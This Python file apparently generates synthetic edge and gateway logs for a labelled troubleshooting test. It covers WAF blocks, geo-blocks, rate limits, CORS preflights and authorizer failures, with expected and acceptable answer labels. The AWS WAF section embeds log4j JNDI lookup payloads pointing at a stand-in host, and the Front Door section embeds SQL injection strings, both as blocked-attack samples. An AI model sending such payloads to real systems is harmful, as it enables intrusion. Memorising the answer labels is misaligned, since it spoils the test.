"""Edges and gateways in other companies: CloudFront, AWS WAF, Front Door, Cloudflare, Traefik, Kong, Envoy Gateway."""
from stage import sec
from shapes import *

KINDS = []
def kind(f): KINDS.append(f); return f
def single(s, title, cause, verdict, layer, **more): return s.incident(title, layer, cause, verdict, "single", **more)


@kind
def distribution_and_bucket(s):
    """CloudFront before a bucket: countries, its WAF, and keys that are not there and look forbidden"""
    for t in s.spread(0, 120, 6): k = s.some(0, 30); cloudfront(s, t, s.ip(k), "GET", "/img/%d.jpg" % s.some(1, 60), 200, "Hit", "Hit", s.agent(k))
    g = single(s, "country", "geo-blocked", "working-as-intended", "edge")
    for k in range(s.some(5, 9)): s.deny(g, cloudfront(s, s.at(s.some(2, 115)), "198.51.100.%d" % (60 + k), "GET", "/", 403, "Error", "ClientGeoBlocked", s.agent(k)))
    a = s.incident("pictures that are not in the bucket", "platform", "absence-hidden", "misconfiguration", "steady", acceptable={"layer": ["edge", "application"], "cause": ["application-refused", "permission-missing", "resource-policy", "unknown"], "verdict": ["caller-fault", "working-as-intended", "undetermined"], "pattern": ["single"]})
    for n, t in enumerate(s.spread(3, 117, 200)):
        k = n % 20; key = "img/old-%d.jpg" % (n % 7)
        s.deny(a, [cloudfront(s, t, s.ip(k), "GET", "/" + key, 403, "Error", "Error", s.agent(k)), s3(s, t + sec(.05), "130.176.1.%d" % (k + 1), "svc:cloudfront.amazonaws.com", "REST.GET.OBJECT", key, 403, "AccessDenied", agent="Amazon CloudFront")])
    for n, t in enumerate(s.spread(0, 120, 90)): s3(s, t, "130.176.1.9", "svc:cloudfront.amazonaws.com", "REST.GET.OBJECT", "img/%d.jpg" % (n % 40), 200, agent="Amazon CloudFront")


@kind
def web_acl(s):
    """AWS WAF: an upload form taken for an attack, a log4j probe, captchas, a partner's new address at an allow-list"""
    s.known = "partners:\n  - {name: kestrel, networks: [203.0.113.32/28], user_agents: [\"KestrelFeed/*\"], owner: logistics}\n"
    for t in s.spread(0, 120, 7): k = s.some(0, 25); aws_waf(s, t, s.ip(k), "GET", "/shop/%d" % s.some(1, 9), "ALLOW", "Default_Action", agent=s.agent(k))
    g = lambda group, rule: [dict(ruleGroupId="AWS#" + group, terminatingRule=dict(ruleId=rule, action="BLOCK", ruleMatchDetails=None), nonTerminatingMatchingRules=[], excludedRules=None)]
    f = single(s, "long uploads taken for attacks", "waf-rule", "misconfiguration", "waf", acceptable={"pattern": ["steady"]})
    for k in range(s.some(9, 14)): s.deny(f, aws_waf(s, s.at(s.some(2, 115)), s.ip(k), "POST", "/claims/upload", "BLOCK", "AWS-AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP", agent=s.agent(k), groups=g("AWSManagedRulesCommonRuleSet", "SizeRestrictions_BODY"), labels=["awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"]))
    a = s.incident("log4j and path probes", "waf", "waf-rule", "attack", "exploit-attempt", acceptable={"pattern": ["scan"]})
    t = s.at(s.some(20, 100))
    for n in range(s.some(20, 45)): s.deny(a, aws_waf(s, t, s.attacker, "GET", "/login", "BLOCK", "AWS-AWSManagedRulesKnownBadInputsRuleSet", "MANAGED_RULE_GROUP", args="x=%24%7Bjndi%3Aldap%3A%2F%2Fx" + str(n) + ".example%2Fa%7D", agent="Mozilla/5.0 ${jndi:ldap://x.example/a}", groups=g("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_QUERYSTRING"), country="NL")); t += sec(s.r.uniform(.4, 3))
    c = s.incident("captcha not solved", "waf", "bot-challenge", "unwanted-automation", "scrape", acceptable={"pattern": ["retry-loop", "steady", "single"], "verdict": ["working-as-intended"]})
    for n, t in enumerate(s.ticks(10, 50, 50)): s.deny(c, aws_waf(s, t, "203.0.113.90", "GET", "/prices/%d" % n, "CAPTCHA", "PriceCaptcha", challenge=dict(responseCode=405, solveTimestamp=0, failureReason=s.r.choice(["TOKEN_MISSING", "TOKEN_INVALID", "TOKEN_EXPIRED"])), agent="Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/119.0.0.0"))
    cut = s.some(40, 70)
    d = s.incident("partner kestrel from a new address", "waf", "allowlist-drift", "misconfiguration", "steady", acceptable={"pattern": ["retry-loop"]})
    for t in s.ticks(0, cut, 120): aws_waf(s, t, "203.0.113.40", "POST", "/feed", "ALLOW", "AllowPartners", agent="KestrelFeed/4")
    for t in s.ticks(cut, 120, 120): s.deny(d, aws_waf(s, t, "203.0.113.%d" % s.some(60, 61), "POST", "/feed", "BLOCK", "OnlyPartners", agent="KestrelFeed/4"))
    n_ = single(s, "country", "geo-blocked", "working-as-intended", "waf", acceptable={"cause": ["waf-rule"]})
    for k in range(s.some(3, 6)): s.deny(n_, aws_waf(s, s.at(s.some(2, 115)), "198.51.100.%d" % (90 + k), "GET", "/", "BLOCK", "GeoRestriction", country="RU", agent=s.agent(k)))


@kind
def azure_front(s):
    """Azure Front Door's WAF: managed rules, countries, a script challenge; a customer's text among them"""
    def waf(t, client, path, rule, action, details="", policy="site", country="DE", agent=None):
        return s.json("frontdoor-waf.json", t, dict(time=t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z", resourceId="/SUBSCRIPTIONS/0000-1111/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CDN/PROFILES/EDGE", category="FrontDoorWebApplicationFirewallLog", operationName="Microsoft.Cdn/Profiles/WebApplicationFirewallLog/Write", properties=dict(clientIP=client, clientPort=str(s.some(30000, 60000)), socketIP=client, requestUri="https://www.%s:443%s" % (s.domain, path), ruleName=rule, policy=policy, action=action, host="www." + s.domain, trackingReference=s.hex(24), policyMode="prevention", details=dict(matches=[dict(matchVariableName="QueryParamValue:q", matchVariableValue=details)], msg=""))))
    for t in s.spread(0, 120, 25): waf(t, s.ip(s.some(0, 20)), "/shop", "BotManager-1.0-GoodBots-BotXXX", "Log")
    a = s.incident("injection", "waf", "waf-rule", "attack", "exploit-attempt", acceptable={"layer": ["edge"]})
    t = s.at(s.some(20, 90))
    for n in range(s.some(15, 30)): s.deny(a, waf(t, s.attacker, "/search?q=1%27+OR+1%3D1+UNION+SELECT+" + str(n), "Microsoft_DefaultRuleSet-2.1-SQLI-942100", "Block", "1' OR 1=1 UNION SELECT %d" % n)); t += sec(s.r.uniform(.5, 3))
    f = single(s, "customers' questions taken for injection", "waf-rule", "misconfiguration", "waf", acceptable={"pattern": ["steady"], "layer": ["edge"]})
    for k in range(s.some(8, 12)): s.deny(f, waf(s.at(s.some(2, 115)), s.ip(k), "/help/ask?q=union+or+select+which+plan+is+better%3F", "Microsoft_DefaultRuleSet-2.1-SQLI-942430", "Block", "union or select which plan is better?"))
    c = s.incident("script challenge", "waf", "bot-challenge", "unwanted-automation", "steady", acceptable={"layer": ["edge"], "pattern": ["retry-loop", "single", "scrape"], "verdict": ["working-as-intended", "undetermined"]})
    for t in s.ticks(10, 70, 150): s.deny(c, waf(t, "203.0.113.91", "/prices", "BotManagerRuleSet-1.1-UnknownBots-Bot300700", "JSChallengeBlock"))
    g = single(s, "country", "geo-blocked", "working-as-intended", "waf", acceptable={"layer": ["edge"], "cause": ["waf-rule"]})
    for k in range(s.some(4, 7)): s.deny(g, waf(s.at(s.some(2, 115)), "198.51.100.%d" % (110 + k), "/", "GeoFilterBlockCountries", "Block", "KP"))


@kind
def cloudflare_site(s):
    """Cloudflare: challenges, a rate rule, hotlinks, a network of a hoster, an address list of the customer's own"""
    for t in s.spread(0, 120, 30): k = s.some(0, 20); cloudflare(s, t, s.ip(k), "GET", "/shop/%d" % s.some(1, 9), "managedChallengeNonInteractiveSolved", "firewallCustom", "r0", "suspicious", status=200)
    c = s.incident("challenge not passed", "edge", "bot-challenge", "unwanted-automation", "scrape", acceptable={"layer": ["waf"], "pattern": ["retry-loop", "steady"], "verdict": ["working-as-intended"]})
    t = s.at(s.some(10, 60))
    for n in range(s.some(25, 50)): s.deny(c, cloudflare(s, t, "203.0.113.70", "GET", "/prices/%d" % n, s.r.choice(["managedChallenge", "jschallenge"]), "botManagement", "bm", "Bot score below 2", agent="Go-http-client/2.0")); t += sec(s.r.uniform(4, 20))
    r = s.incident("over the rate", "edge", "rate-limited", "unwanted-automation", "scrape", acceptable={"pattern": ["retry-loop"]})
    t = s.at(s.some(20, 100))
    for n in range(s.some(50, 90)): s.deny(r, cloudflare(s, t, "203.0.113.71", "GET", "/catalog?page=%d" % n, "block", "ratelimit", "rl", "60 per minute", agent="Scrapy/2.11", status=429)); t += sec(.5)
    h = single(s, "hotlink", "hotlink-refused", "working-as-intended", "edge", acceptable={"verdict": ["unwanted-automation"]}); a = single(s, "hoster's network", "address-blocked", "working-as-intended", "edge"); l = single(s, "address list", "address-blocked", "working-as-intended", "edge"); g = single(s, "country", "geo-blocked", "working-as-intended", "edge"); u = single(s, "agent", "user-agent-blocked", "working-as-intended", "edge", acceptable={"verdict": ["unwanted-automation"]})
    k = 0
    for i, source, country, path in ((h, "hot", "de", "/img/b.png"), (a, "asn", "us", "/"), (l, "iprange", "de", "/"), (g, "country", "kp", "/"), (u, "uablock", "de", "/")):
        for _ in range(s.some(3, 5)): k += 1; s.deny(i, cloudflare(s, s.at(s.some(2, 115)), "198.51.100.%d" % (140 + k), "GET", path, "block", source, source, "", country, agent="sitesucker/2.3" if source == "uablock" else None))


@kind
def traefik_routes(s):
    """Traefik: a gate that is away, preflights that meet it, an allow-list that sees a proxy, an application that says no"""
    s.known = "proxies:\n  - {name: cdn, networks: [10.20.8.0/24]}\n"
    for t in s.spread(0, 120, 6): k = s.some(0, 30); traefik(s, t, s.ip(k), "GET", s.r.choice(["/", "/cart", "/shop/4"]), 200, 200, agent=s.agent(k), user=s.who(k) if k % 3 == 0 else "-")
    a = single(s, "application said no", "application-refused", "undetermined", "application", acceptable={"verdict": ["working-as-intended"], "cause": ["permission-missing", "unknown"]})
    for k in range(s.some(6, 9)): s.deny(a, traefik(s, s.at(s.some(2, 115)), s.ip(k), "GET", "/orders/%d/edit" % k, 403, 403, agent=s.agent(k)))
    w = s.incident("allow-list sees the CDN", "proxy", "wrong-client-address", "misconfiguration", "steady", acceptable={"cause": ["address-not-allowlisted", "unknown", "server-rule"], "pattern": ["single"]})
    for n, t in enumerate(s.spread(10, 110, 200)): s.deny(w, traefik(s, t, "10.20.8.%d" % (4 + n % 3), "GET", "/staff/", 403, 0, router="staff@file", agent=s.agent(n)))
    p = s.incident("preflights meet the password", "proxy", "cors-preflight-refused", "misconfiguration", "steady", acceptable={"pattern": ["single", "burst-after-change"]})
    for n, t in enumerate(s.spread(5, 115, 220)): s.deny(p, traefik(s, t, s.ip(n % 9), "OPTIONS", "/api/orders", 401, 0, router="api@file", agent=s.agent(n)))


@kind
def kong_plugins(s):
    """Kong: keys, tokens, groups, addresses and quotas, each refused by its plugin, as http-log tells"""
    def http_log(t, client, method, path, status, upstream, consumer=None, agent="okhttp/4.12.0", message=None):
        ms = int(t.timestamp() * 1000)
        return s.json("kong.json", t, dict(request=dict(method=method, uri=path, url="https://api.%s:8443%s" % (s.domain, path), size=str(s.some(90, 600)), querystring={}, headers={"host": "api." + s.domain, "user-agent": agent}, id=s.hex(32)), response=dict(status=status, size=str(s.some(90, 900)), headers={"content-type": "application/json"}), latencies=dict(request=s.some(1, 80), kong=s.some(1, 9), proxy=s.some(1, 70) if upstream else -1), upstream_status=str(status) if upstream else None, client_ip=client, service=dict(name="orders", host="orders.internal", port=8080), route=dict(name="orders", paths=["/orders"]), tries=[dict(ip="10.20.0.9", port=8080)] if upstream else [], started_at=ms, source="upstream" if upstream else "exit", workspace="default", **(dict(consumer=dict(username=consumer)) if consumer else {})))
    def error(t, client, text, path): return s.put("error.log", t, '%s [warn] 1230#0: *%d %s, client: %s, server: kong, request: "GET %s HTTP/1.1", host: "api.%s"' % (t.strftime("%Y/%m/%d %H:%M:%S"), s.next(), text, client, path, s.domain))
    for t in s.spread(0, 120, 6): k = s.some(0, 20); http_log(t, s.ip(k), "GET", "/orders", 200, True, "shop-%d" % (k % 4))
    m = single(s, "no key sent", "credential-missing", "caller-fault", "gateway", acceptable={"cause": ["unknown", "token-invalid", "api-key-misconfigured"], "verdict": ["working-as-intended", "undetermined"]})
    for k in range(s.some(6, 10)): s.deny(m, http_log(s.at(s.some(2, 115)), s.ip(30 + k), "GET", "/orders", 401, False))
    q = s.incident("over the quota", "gateway", "rate-limited", "working-as-intended", "steady", acceptable={"verdict": ["caller-fault", "unwanted-automation"], "pattern": ["retry-loop", "scrape"]})
    t = s.at(s.some(20, 90))
    for n in range(s.some(40, 70)):
        over = n % 6 > 2; l = http_log(t, "203.0.113.80", "GET", "/orders?page=%d" % n, 429 if over else 200, not over, "partner-x", "PartnerX/2"); t += sec(1)
        if over: s.deny(q, l, "partner-x")
    g = single(s, "group not allowed", "permission-missing", "working-as-intended", "gateway", acceptable={"cause": ["unknown", "not-assigned", "address-not-allowlisted", "explicit-deny"], "verdict": ["undetermined"]})
    for k in range(s.some(3, 6)): s.deny(g, http_log(s.at(s.some(2, 115)), s.ip(k), "GET", "/orders/export", 403, False, "shop-%d" % (k % 4)), "shop-%d" % (k % 4))
    p = s.incident("preflights meet the key check", "gateway", "cors-preflight-refused", "misconfiguration", "steady", acceptable={"pattern": ["single", "burst-after-change"]})
    for n, t in enumerate(s.spread(5, 115, 260)): s.deny(p, http_log(t, s.ip(n % 8), "OPTIONS", "/orders", 401, False, agent=s.agent(n)))


@kind
def envoy_gateway(s):
    """Envoy Gateway: tokens, scopes, an authorizer away, a rate, an upstream's own no"""
    for t in s.spread(0, 120, 6): envoy_json(s, t, "GET", s.r.choice(["/v2/orders", "/v2/stock"]), 200, "via_upstream", s.ip(s.some(0, 20)))
    one = lambda *a, **k: single(s, *a, layer=k.pop("layer", "gateway"), **k)
    cases = [(401, "jwt_authn_access_denied{Jwt_is_missing}", one("no token", "credential-missing", "caller-fault", acceptable={"verdict": ["working-as-intended"]})), (401, "jwt_authn_access_denied{Jwt_verification_fails}", one("signature does not verify", "token-invalid", "caller-fault", acceptable={"verdict": ["misconfiguration", "attack"]})),
             (401, "jwt_authn_access_denied{Jwks_doesn't_have_key_to_match_kid_or_alg_from_Jwt}", one("key id unknown", "token-invalid", "caller-fault", acceptable={"verdict": ["misconfiguration"]})), (403, "rbac_access_denied_matched_policy[none]", one("no rule lets in", "permission-missing", "working-as-intended")),
             (403, "rbac_access_denied_matched_policy[deny-legacy]", one("rule denies", "explicit-deny", "working-as-intended", acceptable={"cause": ["permission-missing"]})), (403, "via_upstream", one("upstream said no", "application-refused", "undetermined", layer="application", acceptable={"verdict": ["working-as-intended"], "cause": ["unknown", "permission-missing"]}))]
    k = 30
    for status, details, i in cases:
        for _ in range(s.some(3, 6)): k += 1; s.deny(i, envoy_json(s, s.at(s.some(2, 115)), "GET", "/v2/orders/%d" % k, status, details, s.ip(k), upstream=details == "via_upstream"))
    r = s.incident("over the rate", "gateway", "rate-limited", "working-as-intended", "retry-loop", acceptable={"verdict": ["unwanted-automation", "caller-fault"], "pattern": ["steady", "scrape"]})
    t = s.at(s.some(10, 90))
    for n in range(s.some(30, 60)): s.deny(r, envoy_json(s, t, "GET", "/v2/stock", 429, "request_rate_limited", "203.0.113.81", "RL", "StockPoll/1", upstream=False)); t += sec(s.r.uniform(.5, 2))
    e = s.incident("authorizer away", "authorizer", "authorizer-failed", "misconfiguration", "burst-after-change", acceptable={"layer": ["gateway"], "pattern": ["single", "steady"]})
    start = s.some(30, 100); t = s.at(start)
    for n in range(s.some(20, 40)): s.deny(e, envoy_json(s, t, "POST", "/v2/orders", 403, "ext_authz_error", s.ip(s.some(0, 20)), "UAEX", upstream=False)); t += sec(s.r.uniform(1, 9))


@kind
def mesh_between_services(s):
    """Istio: the sidecars between services; a new deny, an old replica, a caller whose certificate names another"""
    cut = s.some(30, 60); what = "created AuthorizationPolicy deny-batch"
    s.change(s.at(cut), s.who(1), what, "policy:deny-batch", "policy"); end = cut + s.some(15, 30); s.change(s.at(end), s.who(1), "deleted AuthorizationPolicy deny-batch", "policy:deny-batch", "policy")
    d = s.incident("rule deny-batch", "gateway", "explicit-deny", "misconfiguration", "burst-after-change", what, acceptable={"verdict": ["working-as-intended"], "pattern": ["steady", "retry-loop"]})
    o = s.incident("one sidecar keeps deny-batch after it was deleted", "gateway", "policy-out-of-date", "misconfiguration", "steady", acceptable={"pattern": ["retry-loop", "single"]})
    for t in s.spread(0, 120, 9):
        n = s.some(1, 5); refused = s.at(cut) < t < s.at(end) or (t >= s.at(end) and n == 2)
        l = istio(s, t, "POST", "/jobs/run", 403 if refused else 200, "-", "rbac_access_denied_matched_policy[ns[jobs]-policy[deny-batch]-rule[0]]" if refused else "via_upstream", "10.20.6.%d" % n, "batch/%d" % n, upstream=not refused)
        if refused: s.deny(d if t < s.at(end) else o, l)


@kind
def gateway_with_policies(s):
    """API Gateway: a resource policy with addresses and accounts, IAM callers, scopes, an authorizer that times out"""
    for t in s.spread(0, 120, 7): api_gateway(s, t, s.ip(s.some(0, 20)), "GET", s.r.choice(["/claims", "/quotes"]), 200, integration="200")
    rp = single(s, "API's resource policy", "resource-policy", "working-as-intended", "gateway", acceptable={"cause": ["explicit-deny", "address-not-allowlisted"]})
    for k in range(s.some(7, 11)): s.deny(rp, api_gateway(s, s.at(s.some(2, 115)), "198.51.100.%d" % (60 + k), "GET", "/claims", 403, "ACCESS_DENIED", "User: anonymous is not authorized to perform: execute-api:Invoke on resource: arn:aws:execute-api:eu-central-1:********2233:abc/prod/GET/claims with an explicit deny" if k % 2 else "User: arn:aws:iam::444455556666:user/x is not authorized to perform: execute-api:Invoke on resource: arn:aws:execute-api:eu-central-1:********2233:abc/prod/GET/claims because no resource-based policy allows the execute-api:Invoke action"))
    m = single(s, "nothing presented", "credential-missing", "caller-fault", "gateway", acceptable={"verdict": ["working-as-intended"]})
    for k in range(s.some(4, 7)): s.deny(m, api_gateway(s, s.at(s.some(2, 115)), s.ip(40 + k), "GET", "/quotes", 403, "MISSING_AUTHENTICATION_TOKEN", "Missing Authentication Token"))
    sg = single(s, "signature", "request-signature", "caller-fault", "gateway")
    for k in range(s.some(3, 6)): s.deny(sg, api_gateway(s, s.at(s.some(2, 115)), s.ip(50 + k), "POST", "/claims", 403, "INVALID_SIGNATURE", "Signature expired: 20260312T080000Z is now earlier than 20260312T081500Z (20260312T082000Z - 5 min.)"))
    key = s.incident("key of the other stage", "gateway", "api-key-misconfigured", "caller-fault", "retry-loop", acceptable={"verdict": ["misconfiguration"], "pattern": ["steady"]})
    for t in s.ticks(5, 110, 200): s.deny(key, api_gateway(s, t, "203.0.113.33", "POST", "/quotes", 403, "INVALID_API_KEY", "Forbidden", agent="QuoteBot/2"))
    sc = single(s, "scope too small", "scope-insufficient", "caller-fault", "gateway", acceptable={"verdict": ["working-as-intended", "misconfiguration"], "layer": ["authorizer"]})
    for k in range(s.some(8, 12)): s.deny(sc, api_gateway(s, s.at(s.some(2, 115)), s.ip(60 + k), "POST", "/claims", 403, "ACCESS_DENIED", "Forbidden", "insufficient_scope: claims:write"))
    au = s.incident("authorizer times out", "authorizer", "authorizer-failed", "misconfiguration", "burst-after-change", acceptable={"layer": ["gateway"], "pattern": ["single", "steady"]})
    t = s.at(s.some(30, 100))
    for n in range(s.some(20, 35)): s.deny(au, api_gateway(s, t, s.ip(s.some(0, 20)), "GET", "/quotes", 500, "AUTHORIZER_CONFIGURATION_ERROR" if n % 3 else "AUTHORIZER_FAILURE", "Internal server error", "Authorizer timed out")); t += sec(s.r.uniform(.5, 6))


@kind
def balancer_signs_in(s):
    """ALB: certificates of clients, sign-in at its provider, its WAF, an authorizer that it cannot reach, a target that refuses"""
    for t in s.spread(0, 120, 5): k = s.some(0, 30); alb(s, t, s.ip(k), "GET /app/%d" % s.some(1, 30), 200, "200", agent=s.agent(k), actions="authenticate,forward")
    for t in s.spread(0, 120, 200): alb(s, t, s.ip(33), "GET /health", 200, "200", agent="ELB-HealthChecker/2.0")
    e = s.incident("provider's token endpoint does not answer", "authorizer", "authorizer-failed", "misconfiguration", "burst-after-change", acceptable={"layer": ["edge", "gateway", "proxy", "identity"], "pattern": ["single", "steady"]})
    t = s.at(s.some(30, 90))
    for n in range(s.some(15, 30)): k = s.some(0, 30); s.deny(e, alb(s, t, s.ip(k), "GET /oauth2/idpresponse?code=%d" % n, 500, "-", "AuthTokenEpRequestTimeout", "authenticate", agent=s.agent(k))); t += sec(s.r.uniform(2, 15))
    l = single(s, "state of the sign-in lost", "session-lost", "caller-fault", "edge", acceptable={"layer": ["gateway", "proxy", "identity", "authorizer"], "verdict": ["misconfiguration", "working-as-intended"]})
    for k in range(s.some(4, 7)): s.deny(l, alb(s, s.at(s.some(2, 115)), s.ip(k), "GET /oauth2/idpresponse?code=1", 401, "-", s.r.choice(["AuthInvalidCookie", "AuthMissingStateParam", "AuthInvalidStateParam"]), "authenticate", agent=s.agent(k)))
    a = single(s, "target said no", "application-refused", "undetermined", "application", acceptable={"verdict": ["working-as-intended"], "cause": ["unknown", "permission-missing"]})
    for k in range(s.some(5, 8)): s.deny(a, alb(s, s.at(s.some(2, 115)), s.ip(k), "GET /app/admin", 403, "403", agent=s.agent(k), actions="authenticate,forward"))
    x = single(s, "fixed answer of a listener rule", "server-rule", "working-as-intended", "edge", acceptable={"layer": ["gateway", "proxy"], "cause": ["unknown"], "verdict": ["undetermined"]})
    for k in range(s.some(4, 7)): s.deny(x, alb(s, s.at(s.some(2, 115)), "198.51.100.%d" % (30 + k), "GET /internal/metrics", 403, "-", "-", "fixed-response", agent=s.agent(k)))
